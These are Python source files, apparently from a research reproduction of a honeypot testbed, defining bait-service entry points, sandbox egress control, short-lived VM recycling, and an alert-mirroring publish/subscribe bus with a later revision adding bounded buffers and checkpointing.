        if entry is None:
            return None
        entry.connections_seen += 1
        if entry.postgres.login(ts, source_ip, username, password):
            return entry.postgres
        return None

    def attempt_outbound(
        self, ts: float, container: str, destination_ip: str, destination_port: int
    ):
        """A compromised container tries to reach the Internet (C2, scanning)."""
        return self.egress.evaluate(ts, container, destination_ip, destination_port)

    # ------------------------------------------------------------------
    def compromised_entry_points(self) -> list[EntryPoint]:
        """Entry points whose bait service has been compromised."""
        from .services import ServiceState

        return [
            entry
            for entry in self.entry_points.values()
            if entry.postgres.state is ServiceState.COMPROMISED
            or entry.ssh.state is ServiceState.COMPROMISED
        ]

    def recycle_compromised(self, now: float) -> int:
        """Recycle VM instances backing compromised entry points.

        Returns the number of instances recycled.  (In the real testbed
        this is how permanent compromise is avoided: instances are
        short-lived and re-imaged after traces are collected.)
        """
        compromised = self.compromised_entry_points()
        recycled = 0
        running = self.lifecycle.running_instances()
        for entry, instance in zip(compromised, running):
            self.lifecycle.collect_and_recycle(instance, now)
            entry.postgres.authenticated_sessions.clear()
            recycled += 1
        return recycled


__all__ = ["DEFAULT_ENTRY_POINTS", "CredentialHint", "EntryPoint", "Honeypot"]
