"""Honeypot isolation: sandbox policy, egress control, VM lifecycle.

§IV.C lists the containment strategies applied simultaneously so an
attacker cannot escape the honeypot: immutable, short-lived VM images;
vulnerable containers nested inside QEMU VMs with limited capabilities;
a layer-3 private overlay network on a separate CIDR block; and iptables
rules on container hosts that monitor and drop new outgoing
connections before they are routed to the Internet.

The reproduction models those policies as data structures whose
decisions the pipeline and the attack emulator consult:

* :class:`EgressPolicy` -- evaluates outbound connection attempts from
  honeypot containers (allow within the overlay, drop + log otherwise),
* :class:`OverlayNetwork` -- the private L3 overlay each container
  joins,
* :class:`VMLifecycleManager` -- short-lived immutable VM instances
  that are recycled after collecting attack traces, with auto-scaling.
"""

from __future__ import annotations

import dataclasses
import enum
from typing import Optional

from .addresses import AddressAllocator, AddressBlock


class EgressVerdict(enum.Enum):
    """Decision for one outbound connection attempt."""

    ALLOWED = "allowed"
    DROPPED = "dropped"


@dataclasses.dataclass(frozen=True)
class EgressAttempt:
    """One outbound connection attempt observed by the sandbox."""

    timestamp: float
    container: str
    destination_ip: str
    destination_port: int
    verdict: EgressVerdict


class OverlayNetwork:
    """Layer-3 private overlay on a separate CIDR block."""

    def __init__(self, block: AddressBlock = AddressBlock("10.66.0.0", 16)) -> None:
        self.block = block
        self._allocator = AddressAllocator(block)
        self._members: dict[str, str] = {}

    def join(self, container: str) -> str:
        """Attach a container to the overlay; returns its overlay address."""
        address = self._allocator.allocate(container)
        self._members[container] = address
        return address

    def address_of(self, container: str) -> str:
        """Overlay address of a container."""
        return self._members[container]

    def __contains__(self, address: str) -> bool:
        return address in self.block

    @property
    def members(self) -> dict[str, str]:
        """All attached containers and their overlay addresses."""
        return dict(self._members)


class EgressPolicy:
    """iptables-style egress control for honeypot containers.

    New outbound connections are dropped before routing to the Internet
    unless the destination is inside the overlay or on the explicit
    allow list (the monitors' collectors).  Every attempt is logged --
    those logs are what let the detector see the ransomware's attempt
    to contact its command-and-control server even though the packet
    never leaves the sandbox.
    """

    def __init__(
        self,
        overlay: OverlayNetwork,
        *,
        allowed_destinations: tuple[str, ...] = (),
    ) -> None:
        self.overlay = overlay
        self.allowed_destinations = set(allowed_destinations)
        self.attempts: list[EgressAttempt] = []

    def evaluate(
        self, timestamp: float, container: str, destination_ip: str, destination_port: int
    ) -> EgressAttempt:
        """Evaluate one outbound connection attempt and log it."""
        if destination_ip in self.overlay or destination_ip in self.allowed_destinations:
            verdict = EgressVerdict.ALLOWED
        else:
            verdict = EgressVerdict.DROPPED
        attempt = EgressAttempt(
            timestamp=timestamp,
            container=container,
            destination_ip=destination_ip,
            destination_port=destination_port,
            verdict=verdict,
        )
        self.attempts.append(attempt)
        return attempt

    def dropped_attempts(self) -> list[EgressAttempt]:
        """All attempts that were dropped (candidate C2 traffic)."""
        return [a for a in self.attempts if a.verdict is EgressVerdict.DROPPED]

    def escaped_attempts(self) -> list[EgressAttempt]:
        """Attempts that reached a non-overlay destination (should be empty)."""
        return [
            a
            for a in self.attempts
            if a.verdict is EgressVerdict.ALLOWED and a.destination_ip not in self.overlay
            and a.destination_ip not in self.allowed_destinations
        ]


class VMState(enum.Enum):
    """Lifecycle state of a honeypot VM instance."""

    PROVISIONING = "provisioning"
    RUNNING = "running"
    COLLECTING = "collecting"
    RECYCLED = "recycled"


@dataclasses.dataclass
class VMInstance:
    """One short-lived, immutable honeypot VM instance."""

    name: str
    image: str
    created_at: float
    max_lifetime_seconds: float
    state: VMState = VMState.RUNNING
    traces_collected: int = 0

    def expired(self, now: float) -> bool:
        """Whether the instance exceeded its maximum lifetime."""
        return now - self.created_at >= self.max_lifetime_seconds


class VMLifecycleManager:
    """Provisioning, recycling and auto-scaling of honeypot VM instances."""

    def __init__(
        self,
        *,
        image: str = "honeypot-immutable-v3",
        max_lifetime_seconds: float = 6 * 3600.0,
        min_instances: int = 2,
        max_instances: int = 16,
    ) -> None:
        if min_instances < 1 or max_instances < min_instances:
            raise ValueError("need 1 <= min_instances <= max_instances")
        self.image = image
        self.max_lifetime_seconds = float(max_lifetime_seconds)
        self.min_instances = int(min_instances)
        self.max_instances = int(max_instances)
        self._counter = 0
        self.instances: list[VMInstance] = []
        self.recycled: list[VMInstance] = []

    def _provision(self, now: float) -> VMInstance:
        self._counter += 1
        instance = VMInstance(
            name=f"honeypot-vm-{self._counter:04d}",
            image=self.image,
            created_at=now,
            max_lifetime_seconds=self.max_lifetime_seconds,
        )
        self.instances.append(instance)
        return instance

    def ensure_capacity(self, now: float, *, desired: Optional[int] = None) -> list[VMInstance]:
        """Provision instances until ``desired`` (clamped) are running."""
        target = self.min_instances if desired is None else desired
        target = max(self.min_instances, min(self.max_instances, target))
        while len(self.running_instances()) < target:
            self._provision(now)
        return self.running_instances()

    def running_instances(self) -> list[VMInstance]:
        """Instances currently serving traffic."""
        return [vm for vm in self.instances if vm.state is VMState.RUNNING]

    def collect_and_recycle(self, instance: VMInstance, now: float) -> VMInstance:
        """Collect traces from an instance and recycle it; provisions a replacement."""
        instance.state = VMState.RECYCLED
        instance.traces_collected += 1
        self.instances.remove(instance)
        self.recycled.append(instance)
        replacement = self._provision(now)
        return replacement

    def recycle_expired(self, now: float) -> list[VMInstance]:
        """Recycle every instance past its maximum lifetime; returns replacements."""
        replacements = []
        for instance in list(self.running_instances()):
            if instance.expired(now):
                replacements.append(self.collect_and_recycle(instance, now))
        return replacements

    def scale_for_load(self, now: float, concurrent_attacks: int) -> list[VMInstance]:
        """Auto-scale so each concurrent attack gets a dedicated instance."""
        return self.ensure_capacity(now, desired=self.min_instances + concurrent_attacks)


__all__ = [
    "EgressVerdict",
    "EgressAttempt",
    "OverlayNetwork",
    "EgressPolicy",
    "VMState",
    "VMInstance",
    "VMLifecycleManager",
]
