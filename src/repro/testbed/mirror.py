"""Traffic mirroring and alert forwarding bus.

The testbed receives *mirrored* alerts of all production network
traffic (Fig. 4: the border router feeds both the target systems and
the testbed's alert-filtering stage).  The mirror is modelled as a
simple publish/subscribe bus over raw monitor records and normalised
alerts: monitors publish, the filtering stage and any number of
detection models subscribe.  Subscribers are plain callables, so the
pipeline can wire the real components and tests can attach probes.
"""

from __future__ import annotations

import dataclasses
from typing import Callable, Iterable, Optional

from ..core.alerts import Alert
from ..telemetry.logsource import RawLogRecord

RawSubscriber = Callable[[RawLogRecord], None]
AlertSubscriber = Callable[[Alert], None]


@dataclasses.dataclass
class MirrorStats:
    """Counters for what flowed through the mirror."""

    raw_records: int = 0
    alerts: int = 0
    dropped_raw: int = 0


class TrafficMirror:
    """Publish/subscribe bus for raw records and normalised alerts."""

    def __init__(self, *, max_buffer: Optional[int] = None) -> None:
        self._raw_subscribers: list[RawSubscriber] = []
        self._alert_subscribers: list[AlertSubscriber] = []
        self.max_buffer = max_buffer
        self.raw_buffer: list[RawLogRecord] = []
        self.alert_buffer: list[Alert] = []
        self.stats = MirrorStats()

    # -- subscription ------------------------------------------------------
    def subscribe_raw(self, subscriber: RawSubscriber) -> None:
        """Receive every mirrored raw record."""
        self._raw_subscribers.append(subscriber)

    def subscribe_alerts(self, subscriber: AlertSubscriber) -> None:
        """Receive every normalised alert."""
        self._alert_subscribers.append(subscriber)

    # -- publication ----------------------------------------------------------
    def publish_raw(self, record: RawLogRecord) -> None:
        """Mirror one raw monitor record."""
        self.stats.raw_records += 1
        self._buffer(self.raw_buffer, record)
        for subscriber in self._raw_subscribers:
            subscriber(record)

    def publish_raw_many(self, records: Iterable[RawLogRecord]) -> None:
        """Mirror many raw records."""
        for record in records:
            self.publish_raw(record)

    def publish_alert(self, alert: Alert) -> None:
        """Forward one normalised alert to the detection models."""
        self.stats.alerts += 1
        self._buffer(self.alert_buffer, alert)
        for subscriber in self._alert_subscribers:
            subscriber(alert)

    def publish_alerts(self, alerts: Iterable[Alert]) -> None:
        """Forward many alerts."""
        for alert in alerts:
            self.publish_alert(alert)

    # -- internals ----------------------------------------------------------------
    def _buffer(self, buffer: list, item) -> None:
        buffer.append(item)
        if self.max_buffer is not None and len(buffer) > self.max_buffer:
            del buffer[: len(buffer) - self.max_buffer]
            if buffer is self.raw_buffer:
                self.stats.dropped_raw += 1


__all__ = ["TrafficMirror", "MirrorStats", "RawSubscriber", "AlertSubscriber"]
