"""Traffic mirroring and alert forwarding bus.

The testbed receives *mirrored* alerts of all production network
traffic (Fig. 4: the border router feeds both the target systems and
the testbed's alert-filtering stage).  The mirror is modelled as a
simple publish/subscribe bus over raw monitor records and normalised
alerts: monitors publish, the filtering stage and any number of
detection models subscribe.  Subscribers are plain callables, so the
pipeline can wire the real components and tests can attach probes.
"""

from __future__ import annotations

import dataclasses
from collections import deque
from typing import Callable, Deque, Iterable, Optional

from ..core.alerts import Alert
from ..telemetry.logsource import RawLogRecord

RawSubscriber = Callable[[RawLogRecord], None]
AlertSubscriber = Callable[[Alert], None]


@dataclasses.dataclass
class MirrorStats:
    """Counters for what flowed through the mirror.

    ``dropped_raw`` / ``dropped_alerts`` count every record evicted
    from the respective bounded buffer (one per publish once the buffer
    is saturated); they say nothing about delivery to subscribers,
    which always see every published item.
    """

    raw_records: int = 0
    alerts: int = 0
    dropped_raw: int = 0
    dropped_alerts: int = 0


class TrafficMirror:
    """Publish/subscribe bus for raw records and normalised alerts.

    With ``max_buffer`` set, the retention buffers are bounded
    ``deque``\\ s: a publish at capacity evicts the oldest entry in
    O(1) (the previous list-based trim shifted the whole buffer on
    every publish once saturated) and is counted in
    :attr:`MirrorStats.dropped_raw` / :attr:`MirrorStats.dropped_alerts`.
    """

    def __init__(self, *, max_buffer: Optional[int] = None) -> None:
        self._raw_subscribers: list[RawSubscriber] = []
        self._alert_subscribers: list[AlertSubscriber] = []
        self.raw_buffer: Deque[RawLogRecord] = deque(maxlen=max_buffer)
        self.alert_buffer: Deque[Alert] = deque(maxlen=max_buffer)
        self.stats = MirrorStats()

    @property
    def max_buffer(self) -> Optional[int]:
        """The retention bound (``None`` = unbounded).

        Fixed at construction (it is the deques' ``maxlen``); exposed
        read-only so a silent ``mirror.max_buffer = n`` assignment --
        which the old list-based trim honoured -- fails loudly instead
        of doing nothing.
        """
        return self.raw_buffer.maxlen

    # -- subscription ------------------------------------------------------
    def subscribe_raw(self, subscriber: RawSubscriber) -> None:
        """Receive every mirrored raw record."""
        self._raw_subscribers.append(subscriber)

    def subscribe_alerts(self, subscriber: AlertSubscriber) -> None:
        """Receive every normalised alert."""
        self._alert_subscribers.append(subscriber)

    # -- publication ----------------------------------------------------------
    def publish_raw(self, record: RawLogRecord) -> None:
        """Mirror one raw monitor record."""
        self.stats.raw_records += 1
        self.stats.dropped_raw += self._buffer(self.raw_buffer, record)
        for subscriber in self._raw_subscribers:
            subscriber(record)

    def publish_raw_many(self, records: Iterable[RawLogRecord]) -> None:
        """Mirror many raw records."""
        for record in records:
            self.publish_raw(record)

    def publish_alert(self, alert: Alert) -> None:
        """Forward one normalised alert to the detection models."""
        self.stats.alerts += 1
        self.stats.dropped_alerts += self._buffer(self.alert_buffer, alert)
        for subscriber in self._alert_subscribers:
            subscriber(alert)

    def publish_alerts(self, alerts: Iterable[Alert]) -> None:
        """Forward many alerts."""
        for alert in alerts:
            self.publish_alert(alert)

    # -- checkpointing -----------------------------------------------------
    def snapshot_state(self) -> dict:
        """Capture counters and retention buffers for a checkpoint.

        Subscribers are wiring, not state: a restored pipeline re-wires
        its own subscribers at construction, so only the buffers and
        :class:`MirrorStats` are captured.
        """
        return {
            "max_buffer": self.max_buffer,
            "stats": dataclasses.replace(self.stats),
            "raw_buffer": list(self.raw_buffer),
            "alert_buffer": list(self.alert_buffer),
        }

    def restore_state(self, state: dict) -> None:
        """Load a :meth:`snapshot_state` mapping back into this mirror."""
        if state["max_buffer"] != self.max_buffer:
            raise ValueError(
                f"checkpoint mirror max_buffer={state['max_buffer']!r} does "
                f"not match this mirror's max_buffer={self.max_buffer!r}"
            )
        self.raw_buffer.clear()
        self.raw_buffer.extend(state["raw_buffer"])
        self.alert_buffer.clear()
        self.alert_buffer.extend(state["alert_buffer"])
        self.stats = dataclasses.replace(state["stats"])

    # -- internals ----------------------------------------------------------------
    def _buffer(self, buffer: Deque, item) -> int:
        """Append ``item``; return how many entries the append evicted."""
        dropped = 1 if buffer.maxlen is not None and len(buffer) == buffer.maxlen else 0
        buffer.append(item)
        return dropped


__all__ = ["TrafficMirror", "MirrorStats", "RawSubscriber", "AlertSubscriber"]
